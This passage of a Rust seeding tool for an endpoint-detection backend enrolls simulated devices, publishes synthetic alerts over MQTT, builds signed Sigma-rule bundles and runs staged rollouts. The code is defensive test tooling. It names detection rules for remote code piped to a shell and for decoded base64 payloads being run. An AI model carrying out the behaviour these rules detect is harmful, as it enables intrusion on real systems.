        .map_err(|_| anyhow!("bad command key"))?;
    let command_key = VerifyingKey::from_bytes(&ck)?;

    let run_seed = now_ms() as u64;
    let mut rng = Rng(run_seed);
    let mut devices = Vec::new();
    for i in 0..a.devices {
        let mut seed = [0u8; 32];
        for chunk in seed.chunks_mut(8) {
            chunk.copy_from_slice(&rng.next().to_le_bytes());
        }
        let host = format!(
            "{}-{}-{:02}",
            rng.pick(ROLES),
            SITES[i % SITES.len()],
            i / SITES.len() + 1
        );
        let version = *rng.pick(VERSIONS);
        let d = enroll(&a.api, &bearer, &command_key, seed, &host, version).await?;
        devices.push((d, version));
    }
    println!(
        "enrolled {} devices in {:.1} s",
        devices.len(),
        t0.elapsed().as_secs_f64()
    );
    // Two endpoint agents (Windows, macOS) beside the appliances: the
    // inventory shows their platform.
    let mut agents = Vec::new();
    for (host, platform) in [("ws-finance-01", "windows"), ("mbp-design-02", "macos")] {
        agents.push(enroll_agent(&a.api, &bearer, host, platform).await?);
    }
    let state = serde_json::json!({
        "agents": agents,
        "devices": devices.iter().take(4).map(|(d, _)| d.to_json()).collect::<Vec<_>>(),
        "bundle_key": fleet.as_ref().map(|f| hex(f.bundle.as_bytes())),
    });
    std::fs::write(&a.state, state.to_string()).with_context(|| format!("write {}", a.state))?;

    // Device 0 and 1 stay quiet here: the tests publish as them. About one
    // device in 20 never reports (enrolled, then lost): "stale".
    let now = now_ms() as u64;
    let active: Vec<usize> = (2..devices.len()).filter(|i| i % 20 != 7).collect();
    let per = a.alerts / active.len().max(1);
    let mut extra = a.alerts - per * active.len();
    let sem = Arc::new(tokio::sync::Semaphore::new(PARALLEL));
    let mut tasks = tokio::task::JoinSet::new();
    for (k, &i) in active.iter().enumerate() {
        let (dev, version) = devices[i].clone();
        let mut n = per;
        if extra > 0 {
            n += 1;
            extra -= 1;
        }
        // A few busy devices: skew the counts so "top devices" means something.
        if k % 17 == 0 {
            n += per / 2;
        }
        let sem = sem.clone();
        let api = a.api.clone();
        let bearer = bearer.clone();
        let mut rng = Rng(run_seed ^ (i as u64).wrapping_mul(0x9e37_79b9));
        tasks.spawn(async move {
            let _permit = sem.acquire().await?;
            let mut conn = dev.connect(mqtt).await?;
            let client = conn.client.clone();
            client
                .publish(
                    topic::topic(dev.id, Channel::Heartbeat).as_str(),
                    QoS::AtLeastOnce,
                    false,
                    heartbeat_frame(&dev, &mut rng, version, None)?,
                )
                .await?;
            // Timestamps over the last 7 days, denser towards now.
            let mut ts: Vec<u64> = (0..n)
                .map(|_| {
                    let f = (rng.below(1_000_000) as f64 / 1e6).powf(2.0);
                    now - 60_000 - (f * 7.0 * 86_400_000.0) as u64
                })
                .collect();
            ts.sort_unstable();
            let specs: Vec<Spec> = ts
                .iter()
                .enumerate()
                .map(|(j, &t)| spec(&mut rng, j as u64 + 1, t))
                .collect();
            let frames = specs
                .chunks(128)
                .map(|c| batch_frame(&dev, c))
                .collect::<anyhow::Result<Vec<_>>>()?;
            wait_acks(&mut conn.acks, 1).await?;
            // A broker PUBACK means the broker has the batch, not that the
            // backend stored it: check the device's count and publish again
            // what is missing (the backend de-duplicates by alert id).
            let mut republished = 0;
            for round in 0..ROUNDS {
                if round > 0 {
                    tokio::time::sleep(Duration::from_millis(300)).await;
                    let stored = stored_for(&api, &bearer, &dev.id.to_string()).await?;
                    if stored >= n {
                        break;
                    }
                    if round == ROUNDS - 1 {
                        bail!(
                            "device {}: {stored} of {n} alerts stored after {ROUNDS} rounds",
                            dev.id
                        );
                    }
                    republished += 1;
                }
                for f in &frames {
                    client
                        .publish(
                            topic::topic(dev.id, Channel::Alerts).as_str(),
                            QoS::AtLeastOnce,
                            false,
                            f.clone(),
                        )
                        .await?;
                }
                wait_acks(&mut conn.acks, frames.len()).await?;
            }
            conn.close();
            anyhow::Ok((n, republished))
        });
    }
    let mut total = 0;
    let mut again = 0;
    while let Some(r) = tasks.join_next().await {
        let (n, republished) = r??;
        total += n;
        again += usize::from(republished > 0);
    }
    println!(
        "published {total} alerts from {} devices in {:.1} s; {again} devices had to publish again \
         because the backend had not stored everything the broker acknowledged",
        active.len(),
        t0.elapsed().as_secs_f64()
    );
    if let Some(fleet) = &fleet {
        rollouts(&a.api, &bearer, &command_key, mqtt, fleet, &devices).await?;
    }
    Ok(())
}

/// Publishes one alert per stdin line as device 0 of the state file.
async fn publish(a: Args) -> anyhow::Result<()> {
    let mqtt: SocketAddr = a.mqtt.parse().context("--mqtt host:port")?;
    let state: serde_json::Value = serde_json::from_slice(&std::fs::read(&a.state)?)?;
    let dev = Device::from_json(&state["devices"][0])?;
    let Conn {
        client, mut acks, ..
    } = dev.connect(mqtt).await?;
    let mut rng = Rng(now_ms() as u64);
    let topic = topic::topic(dev.id, Channel::Alerts);
    // Sequence numbers above anything a previous run used.
    let mut seq = now_ms() as u64;
    println!(
        "{}",
        serde_json::json!({ "ready": true, "device": dev.id.to_string() })
    );
    let (tx, mut rx) = tokio::sync::mpsc::unbounded_channel::<String>();
    std::thread::spawn(move || {
        for line in std::io::stdin().lock().lines().map_while(Result::ok) {
            if tx.send(line).is_err() {
                break;
            }
        }
    });
    while let Some(line) = rx.recv().await {
        if line.trim().is_empty() {
            continue;
        }
        let req: serde_json::Value = serde_json::from_str(&line)?;
        if let Some(n) = req["burst"].as_u64() {
            let per_sec = req["per_sec"].as_u64().unwrap_or(1000).max(10);
            let r = burst(&dev, &client, &mut acks, &mut rng, &mut seq, n, per_sec).await?;
            println!("{r}");
            continue;
        }
        seq += 1;
        let mut s = spec(&mut rng, seq, now_ms() as u64);
        let str_of = |k: &str| req[k].as_str().map(str::to_owned);
        let level = str_of("level").map_or(Level::High, |l| parse_level(&l));
        // A rule of its own when asked for one, so tests can filter on it.
        let custom: &'static RuleDef = Box::leak(Box::new(RuleDef {
            id: Box::leak(
                str_of("rule_id")
                    .or_else(|| str_of("rule_title").map(|_| "picket-ui-test".to_owned()))
                    .unwrap_or_else(|| RULES[0].id.to_owned())
                    .into_boxed_str(),
            ),
            title: Box::leak(
                str_of("rule_title")
                    .unwrap_or_else(|| RULES[0].title.to_owned())
                    .into_boxed_str(),
            ),
            level,
            techniques: &[(1059, 4)],
            author: Box::leak(
                str_of("author")
                    .unwrap_or_else(|| "Picket UI tests".to_owned())
                    .into_boxed_str(),
            ),
            kind: RULES[0].kind,
            weight: 1,
        }));
        s.rule = custom;
        if s.parent.is_empty() {
            // The random pick was a file or network rule: a process needs a parent.
            s.parent = SHELLS[0];
        }
        if let Some(c) = str_of("command_line") {
            // The image is the program the command line runs, when it names one.
            if let Some(first) = c.split_whitespace().next().filter(|f| f.starts_with('/')) {
                first.clone_into(&mut s.image);
            }
            s.command_line = c;
        }
        if let Some(i) = str_of("image") {
            s.image = i;
        }
        let frame = batch_frame(&dev, std::slice::from_ref(&s))?;
        let sent_ms = now_ms();
        client
            .publish(topic.as_str(), QoS::AtLeastOnce, false, frame)
            .await?;
        wait_acks(&mut acks, 1).await?;
        println!(
            "{}",
            serde_json::json!({
                "id": alert_id(dev.id, seq).to_string(),
                "sent_ms": sent_ms,
                "acked_ms": now_ms(),
                "level": level_name(level),
            })
        );
    }
    Ok(())
}

/// Publishes `n` random alerts at about `per_sec` a second, a batch every
/// 100 ms, and answers how long it took.
async fn burst(
    dev: &Device,
    client: &AsyncClient,
    acks: &mut tokio::sync::mpsc::UnboundedReceiver<()>,
    rng: &mut Rng,
    seq: &mut u64,
    n: u64,
    per_sec: u64,
) -> anyhow::Result<serde_json::Value> {
    let topic = topic::topic(dev.id, Channel::Alerts);
    let per_batch = (per_sec / 10).clamp(1, 128);
    let started_ms = now_ms();
    let mut tick = tokio::time::interval(Duration::from_millis(100));
    let mut sent = 0;
    let mut frames = 0;
    while sent < n {
        tick.tick().await;
        let k = per_batch.min(n - sent);
        let specs: Vec<Spec> = (0..k)
            .map(|_| {
                *seq += 1;
                spec(rng, *seq, now_ms() as u64)
            })
            .collect();
        client
            .publish(
                topic.as_str(),
                QoS::AtLeastOnce,
                false,
                batch_frame(dev, &specs)?,
            )
            .await?;
        sent += k;
        frames += 1;
    }
    wait_acks(acks, frames).await?;
    Ok(serde_json::json!({
        "burst": sent,
        "last_id": alert_id(dev.id, *seq).to_string(),
        "started_ms": started_ms,
        "acked_ms": now_ms(),
    }))
}

// ---------------------------------------------------------------- bundles

/// The fleet root the seeder installs and the key it signs bundles with.
struct FleetKeys {
    bundle: SigningKey,
    root: SignedRoot,
}

impl FleetKeys {
    /// New root and bundle keys; the signed root goes where the backend
    /// looks for it (`bundles.root_file`'s default).
    fn install(data_dir: &str) -> anyhow::Result<Self> {
        let path = std::path::Path::new(data_dir).join("bundle-root.pbroot");
        if path.exists() {
            bail!(
                "{} exists: the seeder installs a fleet root of its own only where there is none",
                path.display()
            );
        }
        let root_key = picket_bundle::keys::generate_key()?;
        let bundle = picket_bundle::keys::generate_key()?;
        let mut root = SignedRoot::new(&RootMetadata {
            version: 1,
            expires_unix: now_unix() + 365 * 86_400,
            root_keys: vec![root_key.verifying_key()],
            root_threshold: 1,
            bundle_keys: vec![bundle.verifying_key()],
            bundle_threshold: 1,
            revoked: BTreeSet::new(),
        })?;
        root.sign(&root_key);
        std::fs::create_dir_all(data_dir).with_context(|| format!("create {data_dir}"))?;
        std::fs::write(&path, root.encode())
            .with_context(|| format!("write {}", path.display()))?;
        Ok(Self { bundle, root })
    }
}

/// `Download piped to shell` → `download_piped_to_shell`.
fn slug(title: &str) -> String {
    let s: String = title
        .chars()
        .map(|c| {
            if c.is_ascii_alphanumeric() {
                c.to_ascii_lowercase()
            } else {
                '_'
            }
        })
        .collect();
    let s = s
        .split('_')
        .filter(|p| !p.is_empty())
        .collect::<Vec<_>>()
        .join("_");
    if s.is_empty() {
        "rule".to_owned()
    } else {
        s
    }
}

/// A Sigma rule for one of the seeded rules (what its alerts claim to come
/// from): its file name and YAML. Strings are written as JSON, which YAML
/// reads as double-quoted scalars, so any title stays one scalar.
fn sigma_rule(r: &RuleDef) -> (String, String) {
    let q = |v: &str| serde_json::Value::from(v).to_string();
    let tags: Vec<String> = r
        .techniques
        .iter()
        .map(|&(t, sub)| {
            if sub == 0 {
                format!("attack.t{t:04}")
            } else {
                format!("attack.t{t:04}.{sub:03}")
            }
        })
        .collect();
    let (category, detection) = match r.kind {
        Kind::Proc(cmds, _) => (
            "process_creation",
            format!(
                "CommandLine|contains: {}",
                serde_json::Value::from(cmds.iter().map(|c| c.1).collect::<Vec<_>>())
            ),
        ),
        Kind::File(_, paths, _) => (
            "file_event",
            format!(
                "TargetFilename: {}",
                serde_json::Value::from(paths.to_vec())
            ),
        ),
        Kind::Net(targets, _) => (
            "network_connection",
            format!(
                "DestinationPort: {}",
                serde_json::Value::from(targets.iter().map(|t| t.2).collect::<Vec<_>>())
            ),
        ),
    };
    let yaml = format!(
        "title: {}\nid: {}\nstatus: stable\nauthor: {}\nlevel: {}\ntags: [{}]\n\
         logsource: {{product: linux, category: {category}}}\n\
         detection:\n  selection:\n    {detection}\n  condition: selection\n",
        q(r.title),
        r.id,
        q(r.author),
        level_name(r.level),
        tags.join(", "),
    );
    (format!("linux/{category}/{}.yml", slug(r.title)), yaml)
}

/// A bundle of `rules`, valid for 30 days, signed with the seeder's key.
fn bundle_file(
    key: &SigningKey,
    version: u64,
    rules: &[&RuleDef],
    targets: Vec<Target>,
) -> anyhow::Result<Vec<u8>> {
    let files: BTreeMap<String, Vec<u8>> = rules
        .iter()
        .map(|r| {
            let (path, yaml) = sigma_rule(r);
            (path, yaml.into_bytes())
        })
        .collect();
    let now = now_unix();
    let mut signed = Bundle::new(
        version,
        now,
        now + 30 * 86_400,
        targets,
        files,
        Settings::default(),
    )
    .seal()?;
    signed.sign(key);
    Ok(signed.encode())
}

/// `POST /api/v1/bundles`: the stored bundle as the API answers it.
async fn push_bundle(api: &str, bearer: &str, bytes: &[u8]) -> anyhow::Result<serde_json::Value> {
    let (status, body) = http(
        api,
        "POST",
        "/api/v1/bundles",
        Some(bearer),
        "application/octet-stream",
        bytes,
    )
    .await?;
    if status != 201 {
        bail!(
            "push bundle: HTTP {status}: {}",
            String::from_utf8_lossy(&body)
        );
    }
    Ok(serde_json::from_slice(&body)?)
}

type Job<R> = Pin<Box<dyn Future<Output = anyhow::Result<R>> + Send>>;

/// Runs `jobs`, at most PARALLEL at a time; their results in order.
async fn run_all<R: Send + 'static>(jobs: Vec<Job<R>>) -> anyhow::Result<Vec<R>> {
    let sem = Arc::new(tokio::sync::Semaphore::new(PARALLEL));
    let mut set = tokio::task::JoinSet::new();
    for (i, job) in jobs.into_iter().enumerate() {
        let sem = sem.clone();
        set.spawn(async move {
            let _permit = sem.acquire_owned().await?;
            anyhow::Ok((i, job.await?))
        });
    }
    let mut out = Vec::new();
    while let Some(r) = set.join_next().await {
        out.push(r??);
    }
    out.sort_by_key(|(i, _)| *i);
    Ok(out.into_iter().map(|(_, r)| r).collect())
}

/// How a simulated appliance takes the bundle announced to it.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Take {
    /// Download, verify and run it.
    Activate,
    /// Download and verify it, then fail with this error (as picketd
    /// reports rules that do not compile or a full disk).
    Fail(&'static str),
    /// Acknowledge `Downloading`, then go offline.
    Stall,
}

async fn bundle_ack(
    client: &AsyncClient,
    dev: &Device,
    version: u64,
    state: BundleState,
    chunks_received: u32,
    error: Option<&str>,
) -> anyhow::Result<()> {
    let msg = Message::BundleAck(BundleAck {
        version,
        state,
        chunks_received,
        error: error.map(BoundedStr::truncated),
    });
    client
        .publish(
            topic::topic(dev.id, Channel::Acks).as_str(),
            QoS::AtLeastOnce,
            false,
            encode_frame_to_vec(&msg, dev.id, &dev.key)?,
        )
        .await?;
    Ok(())
}

/// What a device needs to take a bundle.
#[derive(Clone)]
struct Appliance {
    dev: Device,
    agent: &'static str,
    groups: Vec<String>,
}

/// Does what picketd's bundle manager does with the retained announcement
/// of `version`: acknowledge `Downloading`, collect the chunks (every frame
/// checked against the command key), verify the bundle against the fleet
/// root for this device and its groups, acknowledge `Verified`, then
/// `Active` with a heartbeat naming the bundle, or `Failed`.
async fn take_bundle(
    a: Appliance,
    mqtt: SocketAddr,
    command_key: VerifyingKey,
    root: SignedRoot,
    version: u64,
    take: Take,
) -> anyhow::Result<()> {
    let dev = &a.dev;
    let mut conn = dev.connect(mqtt).await?;
    let client = conn.client.clone();
    for channel in [Channel::BundleAnnounce, Channel::BundleChunks] {
        client
            .subscribe(topic::topic(dev.id, channel).as_str(), QoS::AtLeastOnce)
            .await?;
    }
    let mut published = 0;
    let mut announce = None;
    let mut chunks: Vec<Option<Vec<u8>>> = Vec::new();
    let deadline = tokio::time::Instant::now() + Duration::from_secs(30);
    loop {
        let p = tokio::time::timeout_at(deadline, conn.downlink.recv())
            .await
            .with_context(|| format!("device {}: bundle {version} did not arrive", dev.id))?
            .context("mqtt loop ended")?;
        if p.payload.is_empty() {
            continue; // a cleared announcement
        }
        let frame = Frame::decode_exact(&p.payload)?;
        let msg = frame.open_for(dev.id, &command_key)?;
        match msg {
            Message::BundleAnnounce(x) if x.version == version && announce.is_none() => {
                chunks = vec![None; x.chunk_count as usize];
                announce = Some(x);
                bundle_ack(&client, dev, version, BundleState::Downloading, 0, None).await?;
                published += 1;
                if take == Take::Stall {
                    break;
                }
            }
            Message::BundleChunk(c) if c.version == version => {
                if let Some(slot) = chunks.get_mut(c.index as usize) {
                    *slot = Some(c.data.as_bytes().to_vec());
                }
                if chunks.is_empty() || chunks.iter().any(Option::is_none) {
                    continue;
                }
                let x = announce.context("chunks before the announcement")?;
                let bytes: Vec<u8> = chunks.drain(..).flatten().flatten().collect();
                if bytes.len() as u64 != x.total_len {
                    bail!("device {}: bundle {version} arrived truncated", dev.id);
                }
                let groups: Vec<&str> = a.groups.iter().map(String::as_str).collect();
                TrustStore::new(root, None)?.verify(
                    &SignedBundle::decode(&bytes)?,
                    now_unix(),
                    &dev.id.to_string(),
                    &groups,
                )?;
                bundle_ack(&client, dev, version, BundleState::Verified, 0, None).await?;
                published += 1;
                if let Take::Fail(error) = take {
                    bundle_ack(&client, dev, version, BundleState::Failed, 0, Some(error)).await?;
                    published += 1;
                } else {
                    bundle_ack(
                        &client,
                        dev,
                        version,
                        BundleState::Active,
                        x.chunk_count,
                        None,
                    )
                    .await?;
                    let mut rng = Rng(now_ms() as u64 ^ u64::from(dev.id.0[0]));
                    client
                        .publish(
                            topic::topic(dev.id, Channel::Heartbeat).as_str(),
                            QoS::AtLeastOnce,
                            false,
                            heartbeat_frame(dev, &mut rng, a.agent, Some(version))?,
                        )
                        .await?;
                    published += 2;
                }
                break;
            }
            _ => {}
        }
    }
    wait_acks(&mut conn.acks, published).await?;
    conn.close();
    Ok(())
}

/// Polls `GET /rollouts/{id}` until `done` holds (the controller evaluates
/// once a second by default).
async fn wait_rollout(
    api: &str,
    bearer: &str,
    id: i64,
    what: &str,
    done: impl Fn(&serde_json::Value) -> bool,
) -> anyhow::Result<serde_json::Value> {
    let path = format!("/api/v1/rollouts/{id}");
    let mut last = serde_json::Value::Null;
    for _ in 0..150 {
        last = json_call(api, "GET", &path, Some(bearer), &serde_json::Value::Null).await?;
        if done(&last) {
            return Ok(last);
        }
        tokio::time::sleep(Duration::from_millis(200)).await;
    }
    bail!("rollout {id}: not {what} after 30 s: {last}")
}

/// Groups, two bundles and their rollouts (see the crate docs): bundle 7 to
/// the canary group, completed; bundle 8 to everyone, running in its first
/// stage with active, failed, downloading and pending devices.
async fn rollouts(
    api: &str,
    bearer: &str,
    command_key: &VerifyingKey,
    mqtt: SocketAddr,
    fleet: &FleetKeys,
    devices: &[(Device, &'static str)],
) -> anyhow::Result<()> {
    let t0 = std::time::Instant::now();
    let fleet_devices: Vec<Appliance> = devices
        .iter()
        .enumerate()
        .map(|(i, (dev, agent))| {
            let mut groups = vec![format!("site-{}", SITES[i % SITES.len()])];
            if i % 10 == 0 {
                groups.push("canary".to_owned());
            }
            Appliance {
                dev: dev.clone(),
                agent,
                groups,
            }
        })
        .collect();
    let jobs: Vec<Job<()>> = fleet_devices
        .iter()
        .map(|a| {
            let (api, bearer) = (api.to_owned(), bearer.to_owned());
            let path = format!("/api/v1/devices/{}/groups", a.dev.id);
            let body = serde_json::json!({ "groups": a.groups });
            Box::pin(async move {
                json_call(&api, "PUT", &path, Some(&bearer), &body).await?;
                anyhow::Ok(())
            }) as Job<()>
        })
        .collect();
    run_all(jobs).await?;

    let all: Vec<&RuleDef> = RULES.iter().collect();
    let v7 = bundle_file(
        &fleet.bundle,
        7,
        &all[..10],
        vec![Target::Group("canary".into())],
    )?;
    push_bundle(api, bearer, &v7).await?;
    let v8 = bundle_file(&fleet.bundle, 8, &all, vec![Target::All])?;
    push_bundle(api, bearer, &v8).await?;

    // The lost devices (i % 20 == 7, no heartbeat) never acknowledge; nor
    // do devices 0 and 1 acknowledge bundle 8: the tests publish alerts as
    // them, which would count against the bundle in the alert-rate check.
    let lost = |i: usize| i % 20 == 7;
    let quiet = |i: usize| i < 2 || lost(i);
    let take_all = |version: u64, plan: Vec<(usize, Take)>| -> Vec<Job<()>> {
        plan.into_iter()
            .map(|(i, take)| {
                Box::pin(take_bundle(
                    fleet_devices[i].clone(),
                    mqtt,
                    *command_key,
                    fleet.root.clone(),
                    version,
                    take,
                )) as Job<()>
            })
            .collect()
    };

    let r7 = json_call(
        api,
        "POST",
        "/api/v1/rollouts",
        Some(bearer),
        &serde_json::json!({ "version": 7, "spec": { "stages": [100] } }),
    )
    .await?;
    let r7 = r7["id"].as_i64().context("rollout id")?;
    let canary: Vec<(usize, Take)> = (0..fleet_devices.len())
        .filter(|&i| i % 10 == 0 && !lost(i))
        .map(|i| (i, Take::Activate))
        .collect();
    run_all(take_all(7, canary)).await?;
    wait_rollout(api, bearer, r7, "completed", |p| {
        p["rollout"]["state"] == "completed"
    })
    .await?;

    let r8 = json_call(
        api,
        "POST",
        "/api/v1/rollouts",
        Some(bearer),
        &serde_json::json!({ "version": 8, "spec": {
            "stages": [10, 50, 100], "auto_promote": true, "promote_at_percent": 90,
            "bake_secs": 0, "max_failure_percent": 10, "min_finished": 5,
            "max_alert_rate_ratio": 5, "min_alerts": 50, "on_threshold": "pause",
        } }),
    )
    .await?;
    let r8 = r8["id"].as_i64().context("rollout id")?;
    // The first stage is assigned when the rollout starts: ask each device.
    let jobs: Vec<Job<bool>> = fleet_devices
        .iter()
        .map(|a| {
            let (api, bearer) = (api.to_owned(), bearer.to_owned());
            let path = format!("/api/v1/devices/{}/bundles", a.dev.id);
            Box::pin(async move {
                let v =
                    json_call(&api, "GET", &path, Some(&bearer), &serde_json::Value::Null).await?;
                anyhow::Ok(v["assignment"]["version"] == 8)
            }) as Job<bool>
        })
        .collect();
    let assigned: Vec<usize> = run_all(jobs)
        .await?
        .into_iter()
        .enumerate()
        .filter_map(|(i, yes)| yes.then_some(i))
        .collect();
    // Failures stay under the 10 % threshold and fewer than 90 % of the stage
    // activate, so the rollout neither pauses nor promotes by itself; some
    // devices of every state. One in 15 fails, canary devices first (their
    // page then shows bundle 7 active and bundle 8 failed).
    let acking: Vec<usize> = assigned.iter().copied().filter(|&i| !quiet(i)).collect();
    let mut failing = acking.clone();
    failing.sort_by_key(|&i| (i % 10 != 0, i));
    failing.truncate(acking.len().div_ceil(15));
    let none_quiet = acking.len() == assigned.len();
    let mut plan: Vec<(usize, Take)> = failing
        .iter()
        .enumerate()
        .map(|(k, &i)| {
            let error = if k % 2 == 0 {
                "rules that do not compile: linux/process_creation/base64_payload_decoded_and_executed.yml: \
                 unknown modifier `base64offset`"
            } else {
                "persisting the bundle: writing active.pbundle: No space left on device (os error 28)"
            };
            (i, Take::Fail(error))
        })
        .collect();
    for (c, &i) in acking.iter().filter(|i| !failing.contains(i)).enumerate() {
        let take = if c % 10 == 5 {
            Take::Stall
        } else if none_quiet && c == 9 {
            continue; // offline since it was assigned: pending
        } else {
            Take::Activate
        };
        plan.push((i, take));
    }
    let count = |f: fn(&Take) -> bool| plan.iter().filter(|(_, t)| f(t)).count() as u64;
    let (active, failed, stalled) = (
        count(|t| *t == Take::Activate),
        count(|t| matches!(t, Take::Fail(_))),
        count(|t| *t == Take::Stall),
    );
    // The failures last: first among a handful of finished devices they
    // would cross the threshold (once `min_finished` finished).
    let (fail, rest): (Vec<_>, Vec<_>) = plan
        .into_iter()
        .partition(|(_, t)| matches!(t, Take::Fail(_)));
    run_all(take_all(8, rest)).await?;
    let counted = |p: &serde_json::Value, failed: u64| {
        let n = |s: &str| p["states"][s].as_u64().unwrap_or(0);
        n("active") == active && n("failed") == failed && n("downloading") == stalled
    };
    wait_rollout(api, bearer, r8, "acknowledged", |p| counted(p, 0)).await?;
    run_all(take_all(8, fail)).await?;
    let p = wait_rollout(api, bearer, r8, "acknowledged", |p| counted(p, failed)).await?;
    if p["rollout"]["state"] != "running" {
        // Only a small fleet gets here (one device a stage, say).
        println!("note: rollout {r8} is {} already", p["rollout"]["state"]);
    }
    println!(
        "rollouts in {:.1} s: #{r7} of bundle 7 to {} canary devices completed; #{r8} of bundle 8 \
         running, stage 1 of 3: {} assigned, {active} active, {failed} failed, {stalled} \
         downloading, {} pending",
        t0.elapsed().as_secs_f64(),
        (0..fleet_devices.len()).filter(|i| i % 10 == 0).count(),
        assigned.len(),
        assigned.len() as u64 - active - failed - stalled,
    );
    Ok(())
}

/// Pushes a bundle of three rules, the first titled `--title`, signed with
/// the key `fill --data-dir` kept in the state file.
async fn push_bundle_mode(a: Args) -> anyhow::Result<()> {
    let state: serde_json::Value = serde_json::from_slice(&std::fs::read(&a.state)?)?;
    let seed: [u8; 32] = unhex(
        state["bundle_key"]
            .as_str()
            .context("no bundle key in the state file: seed with `fill --data-dir`")?,
    )?
    .try_into()
    .map_err(|_| anyhow!("state: bad bundle key"))?;
    if a.version == 0 || a.title.is_empty() {
        bail!("push-bundle needs --version N and --title T");
    }
    let custom = RuleDef {
        id: "5a1f3c2e-7b1d-4e8a-9d3c-0a1b2c3d4eff",
        title: Box::leak(a.title.clone().into_boxed_str()),
        ..RULES[0]
    };
    let login = json_call(
        &a.api,
        "POST",
        "/api/v1/auth/login",
        None,
        &serde_json::json!({ "name": a.user, "password": a.password }),
    )
    .await?;
    let bearer = login["token"].as_str().context("no token")?;
    let bytes = bundle_file(
        &SigningKey::from_bytes(&seed),
        a.version,
        &[&custom, &RULES[1], &RULES[2]],
        vec![Target::All],
    )?;
    println!("{}", push_bundle(&a.api, bearer, &bytes).await?);
    Ok(())
}

/// Writes `--alerts` random alerts of the devices already in the SQLite
/// database `--db` straight into it (the backend must be stopped): for
/// measuring the UI over a table far larger than MQTT seeding fills quickly.
async fn fill_db(a: Args) -> anyhow::Result<()> {
    use picket_store::Store as _;
    let t0 = std::time::Instant::now();
    let store =
        picket_store::sqlite::SqliteStore::open(&a.db).with_context(|| format!("open {}", a.db))?;
    let devices: Vec<String> = store
        .devices()
        .await?
        .into_iter()
        .filter(|d| d.revoked_ms.is_none())
        .map(|d| d.id)
        .collect();
    if devices.is_empty() {
        bail!("{}: no devices (seed some over MQTT first)", a.db);
    }
    let now = now_ms() as u64;
    let mut rng = Rng(now);
    // Sequence numbers far above what the devices published over MQTT.
    let base = 1u64 << 40;
    let mut done = 0;
    while done < a.alerts {
        let k = 10_000.min(a.alerts - done);
        let batch: Vec<picket_store::model::NewAlert> = (0..k)
            .map(|j| {
                let i = done + j;
                let device = &devices[i % devices.len()];
                // Over the last 30 days, denser towards now.
                let f = (rng.below(1_000_000) as f64 / 1e6).powf(2.0);
                let ts = now - 60_000 - (f * 30.0 * 86_400_000.0) as u64;
                let s = spec(&mut rng, base + (i / devices.len()) as u64, ts);
                stored_alert(device, &s, now as i64)
            })
            .collect();
        store.insert_alerts(&batch).await?;
        done += k;
        if done % 100_000 == 0 || done == a.alerts {
            println!(
                "{done} alerts written ({:.0} s)",
                t0.elapsed().as_secs_f64()
            );
        }
    }
    Ok(())
}

/// The stored form of a seeded alert, as the backend's ingest writes it.
fn stored_alert(device: &str, s: &Spec, received_ms: i64) -> picket_store::model::NewAlert {
    use picket_store::model::{AlertSource, Level as L, NewAlert};
    let r = s.rule;
    let mut id = [0u8; 16];
    id[..8].copy_from_slice(&unhex(&device[..16]).unwrap_or_else(|_| vec![0; 8]));
    id[8..].copy_from_slice(&s.seq.to_be_bytes());
    let nonempty = |x: &str| (!x.is_empty()).then(|| x.to_owned());
    let (command_line, path, event) = match r.kind {
        Kind::Proc(..) => (
            nonempty(&s.command_line),
            None,
            serde_json::json!({
                "type": "process", "pid": 1000 + s.pick % 30_000, "ppid": 400 + s.pick % 600,
                "uid": 0, "gid": 0, "image": s.image, "command_line": s.command_line,
                "parent_image": s.parent, "parent_command_line": s.parent, "cwd": "/tmp",
                "user": "root", "rule_author": r.author,
            }),
        ),
        Kind::File(..) => (
            None,
            nonempty(&s.command_line),
            serde_json::json!({
                "type": "file", "pid": 1000 + s.pick % 30_000, "uid": 0, "image": s.image,
                "path": s.command_line, "action": "write", "rule_author": r.author,
            }),
        ),
        Kind::Net(..) => (
            None,
            None,
            serde_json::json!({
                "type": "network", "pid": 1000 + s.pick % 30_000, "uid": 0, "image": s.image,
                "rule_author": r.author,
            }),
        ),
    };
    NewAlert {
        id: hex(&id),
        device_id: device.to_owned(),
        seq: s.seq,
        timestamp_ms: s.ts as i64,
        received_ms,
        level: match r.level {
            Level::Informational => L::Informational,
            Level::Low => L::Low,
            Level::Medium => L::Medium,
            Level::High => L::High,
            Level::Critical => L::Critical,
        },
        source: AlertSource::Appliance,
        rule_id: r.id.to_owned(),
        rule_title: r.title.to_owned(),
        techniques: techniques(r).iter().map(ToString::to_string).collect(),
        image: nonempty(&s.image),
        command_line,
        path,
        event,
    }
}

#[tokio::main(flavor = "multi_thread", worker_threads = 2)]
async fn main() -> anyhow::Result<()> {
    let a = args()?;
    match a.mode.as_str() {
        "fill" => fill(a).await,
        "publish" => publish(a).await,
        "fill-db" => fill_db(a).await,
        "push-bundle" => push_bundle_mode(a).await,
        m => bail!("unknown mode {m}: fill, publish, push-bundle or fill-db"),
    }
}
